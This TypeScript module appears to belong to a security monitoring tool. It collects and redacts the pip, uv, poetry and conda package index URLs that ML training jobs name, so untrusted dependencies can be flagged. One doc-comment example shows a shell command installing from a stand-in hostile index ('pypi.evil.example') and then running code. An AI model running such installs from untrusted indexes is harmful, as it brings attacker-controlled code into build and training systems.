import { redactUrlSecrets } from '../secrets.js';
import { shellCommands } from './shell-words.js';

/**
 * Where a job's Python packages come from, as its request says: the package indexes pip or uv is pointed at
 * (`--index-url`, `PIP_INDEX_URL`…) and the requirements it fetches from a URL (`git+https://…`, a wheel's URL).
 * Connectors read them from a job's environment and its pip command; `training.unverified_dependency` judges them.
 * URLs are kept without credentials (an index URL often carries a token: `https://user:tok@artifactory/…`).
 */

/** pip's and uv's variables that name an index or a links page (pip: whitespace-separated lists; uv: spaces or commas). */
const INDEX_ENV = new Set([
  'PIP_INDEX_URL', 'PIP_EXTRA_INDEX_URL', 'PIP_FIND_LINKS',
  'UV_INDEX_URL', 'UV_EXTRA_INDEX_URL', 'UV_DEFAULT_INDEX', 'UV_INDEX', 'UV_FIND_LINKS',
]);

const URL = /^[a-z][a-z0-9+.-]*:\/\//i;

/** A URL as kept in an event: user-info and secret query values hidden. */
const shown = (url: string): string => redactUrlSecrets(url);

/** The URLs of one env value: a list split on blanks and commas, uv's `name=url` entries read as their URL. */
function urlsOfValue(value: string): string[] {
  return value.split(/[\s,]+/).map((t) => t.replace(/^[\w.-]+=(?=[a-z][a-z0-9+.-]*:\/\/)/i, '')).filter((t) => URL.test(t));
}

/**
 * The package sources an environment names: `{NAME: value}` (SageMaker `Environment`) or `[{name, value}]`
 * (a Kubernetes / Vertex `env` list).
 *
 * @example
 * packageSourcesOfEnv({ PIP_EXTRA_INDEX_URL: 'https://u:p@pypi.corp.example/simple' }) // ['https://[redacted]@pypi.corp.example/simple']
 */
export function packageSourcesOfEnv(env: unknown): string[] {
  const pairs: Array<[string, unknown]> = Array.isArray(env)
    ? env.flatMap((e) => (e && typeof e === 'object' && typeof (e as { name?: unknown }).name === 'string' ? [[(e as { name: string }).name, (e as { value?: unknown }).value] as [string, unknown]] : []))
    : env && typeof env === 'object' ? Object.entries(env) : [];
  const out: string[] = [];
  for (const [name, value] of pairs) if (INDEX_ENV.has(name.toUpperCase()) && typeof value === 'string') out.push(...urlsOfValue(value));
  return [...new Set(out.map(shown))];
}

/**
 * Options of pip, uv, poetry and conda whose value is an index, a links page, a channel or a requirements file (what
 * they fetch from): `--index-url`, uv's `--index` / `--default-index`, pip's `-r https://…/requirements.txt` (whose
 * own `--extra-index-url` lines cannot be read here, so its URL is judged), conda's `--channel`.
 */
const SOURCE_LONG = ['--index-url', '--extra-index-url', '--find-links', '--index', '--default-index', '--requirement', '--constraint', '--channel'];
const SOURCE_SHORT = new Set(['-i', '-f', '-r', '-c']);
/** Options whose value is a URL that is no package source (a proxy, a host to trust): their value is skipped. */
const OTHER_VALUE_OPTIONS = new Set(['--trusted-host', '--proxy', '--cert', '--client-cert', '--log', '--cache-dir', '--src', '--target', '-t', '--prefix', '--root']);

/**
 * pip reads an unambiguous prefix of a long option as the option (optparse): `--extra-index https://…` is
 * `--extra-index-url`. A prefix of three letters or more of a source option is read as it.
 */
const isSourceOption = (name: string): boolean => SOURCE_LONG.includes(name) || (name.length >= 5 && SOURCE_LONG.some((o) => o.startsWith(name)));

/** pip itself: `pip`, `pip3`, `pip3.11`, a path to one (`/opt/venv/bin/pip`). */
const PIP = /^(?:.*\/)?pip(?:\d+(?:\.\d+)*)?(?:\.exe)?$/;
/** Installers whose every argument is read: uv (`uv pip install`, `uv add`, `uvx --from`), pipx, poetry (`poetry source add`), conda and its kin. */
const INSTALLER = /^(?:.*\/)?(?:uvx?|pipx|poetry|conda|mamba|micromamba)(?:\.exe)?$/;

/** Where the installer's arguments start in a command's words (after `pip`, `python -m pip`, `python -mpip`, `uv`…), -1 when none runs. */
function installerArgsStart(words: readonly string[]): number {
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (PIP.test(w) || INSTALLER.test(w) || w === '-mpip') return i + 1;
    if (w === '-m' && words[i + 1] === 'pip') return i + 2;
  }
  return -1;
}

/** `pip config set global.index-url URL` (also `extra-index-url`, `find-links`): the config every later pip reads. */
function pipConfigSet(args: readonly string[]): string[] {
  const at = args.indexOf('set');
  if (args.indexOf('config') < 0 || at < 0) return [];
  const key = args[at + 1] ?? '';
  return /(?:^|\.)(?:index-url|extra-index-url|find-links)$/.test(key) ? urlsOfValue(args[at + 2] ?? '') : [];
}

/** The sources an installer's arguments name: source options (`--opt URL`, `--opt=URL`, `-iURL`), URL requirements (`git+https://…`, `pkg@https://…`). */
function sourcesOfArgs(args: readonly string[], runsProgram: boolean): string[] {
  const out: string[] = [];
  // `uv run`, `poetry run`, `pipx run`, `conda run`, `uvx`: the URLs after their program are its own arguments
  // (`uv run serve.py --tracking https://…`), not requirements; source options are read wherever they are.
  let running = runsProgram;
  let program = false;
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!;
    if (!running && t === 'run' && args.slice(0, i).every((a) => a.startsWith('-'))) {
      running = true;
      continue;
    }
    if (program && !t.startsWith('-')) continue;
    if (running && !t.startsWith('-') && !URL.test(t)) {
      program = true;
      continue;
    }
    if (t.startsWith('--')) {
      const eq = t.indexOf('=');
      const name = eq < 0 ? t : t.slice(0, eq);
      if (isSourceOption(name)) out.push(...urlsOfValue(eq < 0 ? (args[++i] ?? '') : t.slice(eq + 1)));
      else if (eq < 0 && OTHER_VALUE_OPTIONS.has(name)) i++;
    } else if (t.startsWith('-') && t.length > 1) {
      const short = t.slice(0, 2);
      if (SOURCE_SHORT.has(short)) out.push(...urlsOfValue(t.length > 2 ? t.slice(2).replace(/^=/, '') : (args[++i] ?? '')));
      else if (OTHER_VALUE_OPTIONS.has(t)) i++;
    } else if (URL.test(t)) out.push(t);
    else {
      // PEP 508 `name @ url` may be written without blanks (`pkg[extra]@https://…`).
      const at = t.indexOf('@');
      if (at > 0 && URL.test(t.slice(at + 1).trimStart())) out.push(t.slice(at + 1).trimStart());
    }
  }
  return out;
}

/** `PIP_INDEX_URL=…` as a command's prefix assignment or an `export` / `env` argument: pip reads it as from the env. */
function sourcesOfAssignments(words: readonly string[]): string[] {
  const out: string[] = [];
  for (const w of words) {
    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w);
    if (m && INDEX_ENV.has(m[1]!.toUpperCase())) out.push(...urlsOfValue(m[2]!));
  }
  return out;
}

/** A pip config file (`pip.conf`, `pip.ini`) written by the script (`printf '[global]\\nindex-url = …' > /etc/pip.conf`): its index keys. */
const CONFIG_INDEX_KEY = /(?:^|[\s'"]|\\n)(?:extra[-_])?(?:index[-_]url|find[-_]links)\s*[=:]\s*['"]?([a-z][a-z0-9+.-]*:\/\/[^\s'"\\]+)/gi;

/** The sources of one command's words. */
function sourcesOfWords(words: readonly string[]): string[] {
  const out = sourcesOfAssignments(words);
  const start = installerArgsStart(words);
  if (start < 0) return out;
  const args = words.slice(start);
  if (PIP.test(words[start - 1]!) || words[start - 1] === 'pip' || words[start - 1] === '-mpip') {
    const config = pipConfigSet(args);
    if (args.includes('config')) return [...out, ...config];
  }
  return [...out, ...sourcesOfArgs(args, /(?:^|\/)uvx(?:\.exe)?$/.test(words[start - 1]!))];
}

/**
 * The package sources a container's command and args name: the index, links, channel and requirements options of
 * the installers it runs (pip, `python -m pip`, uv, poetry, conda) and the requirements it gives as URLs
 * (`git+https://…`, `pkg @ https://…/pkg.whl`), the index variables it sets (`PIP_INDEX_URL=… pip install`, `export`),
 * `pip config set global.index-url` and a pip config file it writes. Read from the whole list as one command
 * (exec form: `["pip", "install", "-i", URL]`) and from each string as a shell script (`sh -c "…"`), so a `-f` of
 * another command (`rm -f`) is not read. This is how a compiled KFP component installs its `packages_to_install` from
 * its `pip_index_urls`.
 *
 * @example
 * packageSourcesOfCommand(['sh', '-c', "python3 -m pip install --index-url https://pypi.evil.example/simple 'x' && \"$0\""]) // ['https://pypi.evil.example/simple']
 */
/** Every string packageSourcesOfCommand can read a source from names one of these (case aside). */
const MAY_INSTALL = /pip|uv|poetry|conda|mamba|index|find[-_]links/i;

export function packageSourcesOfCommand(parts: readonly unknown[]): string[] {
  const strings = parts.filter((p): p is string => typeof p === 'string');
  const out = sourcesOfWords(strings);
  for (const part of strings) {
    // Most commands install nothing: the shell reading is skipped for a string naming no installer nor index.
    if (!MAY_INSTALL.test(part)) continue;
    for (const words of shellCommands(part)) out.push(...sourcesOfWords(words));
    for (const m of part.matchAll(CONFIG_INDEX_KEY)) out.push(m[1]!);
  }
  return [...new Set(out.map(shown))];
}

/**
 * Host and path of a package source URL, what its allow-list globs match: scheme (`git+https://`), user-info,
 * port, query and fragment left out, the host lower-cased.
 *
 * @example
 * packageSourceLocation('git+https://[redacted]@github.com/org/repo.git@v1') // { host: 'github.com', path: 'org/repo.git@v1' }
 */
export function packageSourceLocation(url: string): { host: string; path: string } {
  const rest = url.replace(URL, '').replace(/[?#].*$/, '');
  const slash = rest.indexOf('/');
  const authority = slash < 0 ? rest : rest.slice(0, slash);
  return { host: authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d*$/, '').toLowerCase(), path: slash < 0 ? '' : rest.slice(slash + 1) };
}

/** How deep redactPackageSourceSecrets looks (a CloudTrail record's container env sits 4-5 levels down). */
const MAX_REDACT_DEPTH = 16;

/**
 * `record` with the credentials of package sources hidden as `ml.job.package_sources` hides them: the values of the
 * index variables (`PIP_INDEX_URL`…, a `{NAME: value}` map or a `[{name, value}]` list) and the strings of `command`
 * / `args` lists, their URL user-info and secret query values replaced by `[redacted]`. For the raw record of a job
 * whose package sources held one (a CloudTrail or Cloud Audit request logs the env as sent): the same record (===)
 * when nothing changed, else a copy.
 *
 * @example
 * redactPackageSourceSecrets({ environment: { PIP_INDEX_URL: 'https://u:tok@x.example/simple' } }) // { environment: { PIP_INDEX_URL: 'https://[redacted]@x.example/simple' } }
 */
export function redactPackageSourceSecrets<T>(record: T): T {
  const walk = (v: unknown, depth: number): unknown => {
    if (depth > MAX_REDACT_DEPTH || v === null || typeof v !== 'object') return v;
    if (Array.isArray(v)) {
      let out: unknown[] | undefined;
      v.forEach((item, i) => {
        const r = walk(item, depth + 1);
        if (r !== item) (out ??= [...v])[i] = r;
      });
      return out ?? v;
    }
    const o = v as Record<string, unknown>;
    const indexEntry = typeof o.name === 'string' && INDEX_ENV.has(o.name.toUpperCase());
    let out: Record<string, unknown> | undefined;
    for (const [k, val] of Object.entries(o)) {
      let r: unknown;
      if (typeof val === 'string') r = INDEX_ENV.has(k.toUpperCase()) || (indexEntry && k === 'value') ? shown(val) : val;
      else if (Array.isArray(val) && (k === 'command' || k === 'args')) r = val.map((s) => (typeof s === 'string' ? shown(s) : walk(s, depth + 1)));
      else r = walk(val, depth + 1);
      if (r !== val && !(Array.isArray(r) && Array.isArray(val) && r.every((x, i) => x === val[i]))) (out ??= { ...o })[k] = r;
    }
    return out ?? v;
  };
  return walk(record, 0) as T;
}

/** Whether package sources (as kept, credentials hidden) held any: the raw record then needs redactPackageSourceSecrets. */
export const packageSourcesHeldSecrets = (sources: readonly unknown[] | undefined): boolean => !!sources?.some((s) => typeof s === 'string' && s.includes('[redacted]'));
